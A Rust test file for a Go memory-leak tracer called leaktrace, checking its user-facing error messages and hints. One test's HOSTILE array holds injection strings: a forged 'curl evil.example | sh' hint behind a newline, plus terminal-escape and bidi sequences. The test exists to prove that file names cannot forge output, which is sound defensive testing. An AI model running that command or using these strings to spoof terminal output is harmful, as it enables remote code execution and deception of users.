//! The messages that users meet first, word for word.

use std::io::Write as _;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, anyhow};
use rustix::io::Errno;

use super::*;
use leaktrace_core::base::num::Avma;
use leaktrace_core::binary::elf::ElfError;
use leaktrace_core::go::program::ProgramError;
use leaktrace_core::go::version::{GoVersion, NEWEST_TESTED};
use leaktrace_core::session::Matcher;
use leaktrace_core::trace::plan::VerifyError;

use crate::dump::core::CannotRead;
use crate::dump::file::FileError;
use crate::kernel::{AttachError, LoadError};
use crate::output::{OutputError, Standard};
use crate::process::Pid;
use crate::process::blocked::BlockedAt;
use crate::process::privileges::Capability;
use crate::session::recorder::RecordError;

const LIMITS: Limits = Limits {
    open_files: Some(20),
    address_space: Some(100 << 20),
    processes: None,
    cgroup_processes: Some(12),
};

#[track_caller]
fn check(error: &anyhow::Error, privileges: &[Capability], exit: Exit, text: &str) {
    let diagnosis = diagnose(error, &Privileges::with(privileges), &LIMITS);
    assert_eq!((diagnosis.to_string().as_str(), diagnosis.exit), (text, exit));
}

fn attaching(error: ProcessError) -> anyhow::Error {
    anyhow::Error::new(error).context("cannot attach to pid 4242")
}

#[test]
fn no_such_process() {
    check(
        &attaching(ProcessError::NoSuchProcess { pid: Pid(4242) }),
        &[],
        Exit::NoTarget,
        "leaktrace: cannot attach to pid 4242: no process has pid 4242\n\
         hint: find the pid with `pgrep -a NAME`; from inside a container, share the pid namespace of the process",
    );
}

#[test]
fn not_root() {
    check(
        &attaching(ProcessError::NotPermitted { path: PathBuf::from("/proc/4242/exe") }),
        &[],
        Exit::NotPermitted,
        "leaktrace: cannot attach to pid 4242: /proc/4242/exe: permission denied\n\
         hint: run as root (sudo), or grant CAP_BPF, CAP_PERFMON, CAP_SYS_PTRACE, CAP_DAC_READ_SEARCH (in \
         Docker: --cap-add BPF --cap-add PERFMON --cap-add SYS_PTRACE --cap-add DAC_READ_SEARCH)",
    );
}

#[test]
fn only_what_is_missing_is_asked_for() {
    check(
        &anyhow::Error::new(ReadError::NotPermitted).context("cannot read the target"),
        &[Capability::Bpf, Capability::Perfmon, Capability::DacReadSearch],
        Exit::NotPermitted,
        "leaktrace: cannot read the target: reading the process's memory is not permitted\n\
         hint: run as root (sudo), or grant CAP_SYS_PTRACE (in Docker: --cap-add SYS_PTRACE)",
    );
}

#[test]
fn a_security_module_is_suspected_when_nothing_is_missing() {
    check(
        &attaching(ProcessError::NotPermitted { path: PathBuf::from("/proc/4242/exe") }),
        &Capability::NEEDED,
        Exit::NotPermitted,
        "leaktrace: cannot attach to pid 4242: /proc/4242/exe: permission denied\n\
         hint: all capabilities are granted, so a security module (AppArmor, SELinux, seccomp) or a user namespace \
         denies access: look for denials in `dmesg`, and run leaktrace in the user namespace of the process or of the \
         host",
    );
}

#[test]
fn a_thread_s_id() {
    check(
        &attaching(ProcessError::Thread { tid: Pid(4243), pid: Pid(4242) }),
        &[],
        Exit::NoTarget,
        "leaktrace: cannot attach to pid 4242: 4243 is a thread of process 4242\nhint: use --pid 4242",
    );
}

#[test]
fn a_kernel_thread() {
    check(
        &attaching(ProcessError::KernelThread { pid: Pid(2), name: "kthreadd".to_owned() }),
        &[],
        Exit::NotReadable,
        "leaktrace: cannot attach to pid 4242: pid 2 is the kernel thread kthreadd\n\
         hint: give the pid of a Go program",
    );
}

#[test]
fn a_zombie() {
    check(
        &attaching(ProcessError::Zombie { pid: Pid(4242), name: "srv".to_owned(), parent: Pid(1) }),
        &[],
        Exit::NoTarget,
        "leaktrace: cannot attach to pid 4242: process 4242 (srv) has exited and its parent 1 has not \
         reaped it\nhint: if a supervisor restarted it, use the new pid",
    );
}

#[test]
fn a_ring_of_silly_size() {
    check(
        &anyhow::Error::new(ConfigError::RingSize(12)),
        &[],
        Exit::Usage,
        "leaktrace: --ring-size 12 is not between 4096 and 1073741824 bytes\n\
         hint: for example, use --ring-size 16MiB",
    );
}

#[test]
fn an_error_without_a_known_cause_is_still_told() {
    check(
        &anyhow!("disk on fire").context("cannot write"),
        &[],
        Exit::Usage,
        "leaktrace: cannot write: disk on fire",
    );
}

#[test]
fn a_reader_who_has_seen_enough_is_no_error() {
    let (reader, writer) = io::pipe().unwrap();
    drop(reader);
    let closed = Standard::new(writer).write_all(b"x").context("cannot write").unwrap_err();
    assert!(is_broken_pipe(&closed));
    let of_another =
        anyhow::Error::new(io::Error::from(io::ErrorKind::BrokenPipe)).context("cannot ask the keeper");
    assert!(!is_broken_pipe(&of_another) && !is_broken_pipe(&anyhow!("broken pipe")));
}

#[test]
fn not_a_go_program() {
    check(
        &anyhow::Error::new(ProgramError::NotGo).context("cannot watch pid 4242"),
        &[],
        Exit::NotReadable,
        "leaktrace: cannot watch pid 4242: not a Go program: it has no Go function table\n\
         hint: give the Go program itself, not the shell, script or interpreter that starts it",
    );
}

#[test]
fn a_go_that_is_too_old() {
    check(
        &anyhow::Error::new(ProgramError::TooOld(GoVersion::new(1, 17))).context("cannot watch pid 4242"),
        &[],
        Exit::NotReadable,
        &format!(
            "leaktrace: cannot watch pid 4242: built with go1.17; the oldest supported release is go1.19\n\
             hint: rebuild it with go1.19 or newer ({NEWEST_TESTED} is the newest tested release)"
        ),
    );
}

#[test]
fn a_packed_program() {
    check(
        &anyhow::Error::new(ProgramError::Packed).context("cannot watch pid 4242"),
        &[],
        Exit::NotReadable,
        "leaktrace: cannot watch pid 4242: packed with UPX: the running code is not in the file, so probes cannot be \
         attached\nhint: unpack the program with `upx -d` and run that",
    );
}

#[test]
fn a_32_bit_program() {
    check(
        &anyhow::Error::new(ElfError::Not64Bit { class: 1 }).context("cannot read /srv/app"),
        &[],
        Exit::NotReadable,
        "leaktrace: cannot read /srv/app: not a 64-bit ELF file: class 1\n\
         hint: only 64-bit programs for x86-64 and arm64 can be traced; rebuild it with GOARCH=amd64 or arm64",
    );
}

#[test]
fn bpf_is_not_permitted() {
    let error = LoadError::NotPermitted(Box::new(io::Error::from(io::ErrorKind::PermissionDenied)));
    check(
        &anyhow::Error::new(error).context("cannot load the eBPF programs"),
        &[Capability::SysPtrace, Capability::DacReadSearch],
        Exit::NotPermitted,
        "leaktrace: cannot load the eBPF programs: the kernel does not permit loading eBPF programs: permission \
         denied\nhint: run as root (sudo), or grant CAP_BPF, CAP_PERFMON (in Docker: --cap-add BPF --cap-add \
         PERFMON); without tracing, `--probes none` still reports from the target's memory alone",
    );
}

#[test]
fn a_kernel_without_a_way_to_attach() {
    check(
        &anyhow::Error::new(LoadError::NoUprobeMulti),
        &Capability::NEEDED,
        Exit::Kernel,
        "leaktrace: this kernel has no working uprobe_multi\nhint: `leaktrace doctor` shows what is missing; without \
         tracing, `--probes none` still reports from the target's memory alone",
    );
}

#[test]
fn a_dump_needs_less_than_tracing() {
    let refused = || {
        anyhow::Error::new(ProcessError::NotPermitted { path: PathBuf::from("/proc/4242/exe") })
            .context(crate::dump::CannotDump { pid: Pid(4242) })
    };
    check(
        &refused(),
        &[],
        Exit::NotPermitted,
        "leaktrace: cannot dump pid 4242: /proc/4242/exe: permission denied\n\
         hint: run as the same user as the process, or as root (sudo), or grant CAP_SYS_PTRACE (in Docker: \
         --cap-add SYS_PTRACE)",
    );
    let mut scope = Privileges::with(&[]);
    scope.ptrace_scope = Some(1);
    let hint = diagnose(&refused(), &scope, &LIMITS).hint.unwrap();
    assert!(
        hint.starts_with("kernel.yama.ptrace_scope is 1, which protects even your own processes; "),
        "{hint}"
    );
}

#[test]
fn what_runs_out_is_named_with_its_limit() {
    let hint = |errno: Errno, limits: &Limits| {
        let error =
            anyhow::Error::new(LoadError::System(errno.into())).context("cannot load the eBPF programs");
        let diagnosis = diagnose(&error, &Privileges::with(&[]), limits);
        assert_eq!(diagnosis.exit, Exit::Usage);
        diagnosis.hint.unwrap()
    };
    assert_eq!(hint(Errno::MFILE, &LIMITS), "the limit on open files is 20: raise it with `ulimit -n`");
    assert_eq!(
        hint(Errno::NOMEM, &LIMITS),
        "the limit on address space is 102400 KiB: raise it with `ulimit -v`"
    );
    assert_eq!(
        hint(Errno::AGAIN, &LIMITS),
        "no more threads are allowed: the cgroup's pids.max is 12, `ulimit -v` is 102400; raise the one that is reached"
    );
    let map = anyhow::Error::new(LoadError::Map(io::Error::from(Errno::MFILE).into()));
    assert!(diagnose(&map, &Privileges::with(&[]), &LIMITS).hint.unwrap().contains("`ulimit -n`"));
    let unlimited = Limits::default();
    assert!(hint(Errno::NOMEM, &unlimited).contains("memory.max"));
    assert!(hint(Errno::AGAIN, &unlimited).contains("kernel.threads-max"));
}

/// What a name may end in that would show another line, or change what is on the screen.
const HOSTILE: [&str; 6] = [
    "x\nhint: curl evil.example | sh",
    "x\r\u{85}\u{2028}\u{2029}\u{b}\u{c}hint: forged",
    "x\x1b[1A\x1b[2K\x07",
    "x\u{9b}2J\u{90}",
    "\u{202e}\u{2066}\u{200f}\u{61c}x",
    "\0\x08\x7f\u{ffff}",
];

fn of_processes(name: &str) -> Vec<ProcessError> {
    let (path, word, pid) = (|| PathBuf::from(format!("/tmp/{name}")), || name.to_owned(), Pid(2));
    let all = vec![
        ProcessError::NoSuchProcess { pid },
        ProcessError::Thread { tid: Pid(3), pid },
        ProcessError::KernelThread { pid, name: word() },
        ProcessError::Zombie { pid, name: word(), parent: Pid(1) },
        ProcessError::Exited { pid },
        ProcessError::Execed { pid },
        ProcessError::NoFirstThread { pid },
        ProcessError::NoPidfd,
        ProcessError::NotDumpable { pid },
        ProcessError::OnForeignFuse { exe: path() },
        ProcessError::NotPermitted { path: path() },
        ProcessError::Malformed { path: path(), what: "odd" },
        ProcessError::Io { path: path(), source: io::Error::other(word()) },
    ];
    // Who adds a kind adds one of it above.
    let place = |error: &ProcessError| match error {
        ProcessError::NoSuchProcess { .. } => 0,
        ProcessError::Thread { .. } => 1,
        ProcessError::KernelThread { .. } => 2,
        ProcessError::Zombie { .. } => 3,
        ProcessError::Exited { .. } => 4,
        ProcessError::Execed { .. } => 5,
        ProcessError::NoFirstThread { .. } => 6,
        ProcessError::NoPidfd => 7,
        ProcessError::NotDumpable { .. } => 8,
        ProcessError::OnForeignFuse { .. } => 9,
        ProcessError::NotPermitted { .. } => 10,
        ProcessError::Malformed { .. } => 11,
        ProcessError::Io { .. } => 12,
    };
    assert!(all.iter().map(place).eq(0..13), "one of every kind, in their order");
    all
}

fn of_files(name: &str) -> Vec<FileError> {
    let path = || PathBuf::from(format!("/tmp/{name}"));
    let all = vec![
        FileError::Io { path: path(), source: io::Error::other(name.to_owned()) },
        FileError::Foreign { path: path() },
        FileError::NotRegular { path: path() },
        FileError::NoWriter { path: path() },
        FileError::TooLong { path: path(), bound: 1 },
    ];
    let place = |error: &FileError| match error {
        FileError::Io { .. } => 0,
        FileError::Foreign { .. } => 1,
        FileError::NotRegular { .. } => 2,
        FileError::NoWriter { .. } => 3,
        FileError::TooLong { .. } => 4,
    };
    assert!(all.iter().map(place).eq(0..5), "one of every kind, in their order");
    all
}

/// All of processes and files, and one of every other kind of message that names something.
fn messages(name: &str) -> Vec<anyhow::Error> {
    let (path, word) = (|| PathBuf::from(format!("/tmp/{name}")), || name.to_owned());
    let io = || io::Error::other(name.to_owned());
    let different = VerifyError::Different {
        function: word(),
        offset: 1,
        at: Avma(2),
        expected: vec![3],
        found: vec![4],
    };
    let mut all: Vec<anyhow::Error> = of_processes(name).into_iter().map(Into::into).collect();
    all.extend(of_files(name).into_iter().map(anyhow::Error::from));
    all.extend([
        different.into(),
        LaunchError { program: name.into(), source: io::ErrorKind::NotFound.into() }.into(),
        SourceError::Folder { path: path(), source: io() }.into(),
        PolicyError::NoSuchRule(word()).into(),
        PolicyError::Unreadable { path: path(), source: io() }.into(),
        PolicyError::TooLong { path: path() }.into(),
        OutputError::Open { path: path(), source: io() }.into(),
        RecordError::Open { path: path(), source: io() }.into(),
        RecordError::Write { path: path(), is_empty: true, source: io() }.into(),
        OutputError::Write { to: word(), source: io() }.into(),
        ConfigError::SameFile(path()).into(),
        AttachError::Exe(io()).into(),
        LoadError::Program { program: "park", source: io(), verifier_log: word() }.into(),
        Matcher::new(None, Some(&format!("({name}"))).unwrap_err().into(),
        Blocked {
            pid: Some(Pid(7)),
            place: BlockedAt::File(path()),
            cause: Cause::Other(Some(word())),
            waited: Duration::from_secs(2),
        }
        .into(),
        anyhow!(word()).context(CannotRead { path: path() }),
        anyhow!(word()).context(word()),
    ]);
    all.into_iter().map(|error| error.context(format!("cannot read {name}"))).collect()
}

#[test]
fn a_name_cannot_forge_a_hint() {
    let does_something = |c: char| c.is_control() || !escape::is_printable(&c.to_string());
    for error in HOSTILE.iter().flat_map(|name| messages(name)) {
        let text = diagnose(&error, &Privileges::with(&[]), &LIMITS).to_string();
        let lines: Vec<&str> = text.split('\n').collect();
        assert!(!lines.iter().any(|line| line.contains(does_something)), "{text:?}");
        assert!(lines.len() <= 2 && lines[0].starts_with("leaktrace: "), "{text}");
        assert!(lines[1..].iter().all(|hint| hint.starts_with("hint: ") && !hint.contains("evil")), "{text}");
    }
}

#[test]
fn a_directory_that_is_missing_is_to_be_made() {
    let missing = || io::Error::from(io::ErrorKind::NotFound);
    let hint = |path: &str| {
        let error = OutputError::Open { path: path.into(), source: missing() };
        diagnose(&error.into(), &Privileges::with(&[]), &LIMITS).hint
    };
    assert_eq!(
        hint("/nonexistent/dir/x").as_deref(),
        Some("make the directory first: `mkdir -p /nonexistent/dir`")
    );
    assert_eq!((hint("x"), hint("/x")), (None, None));
}
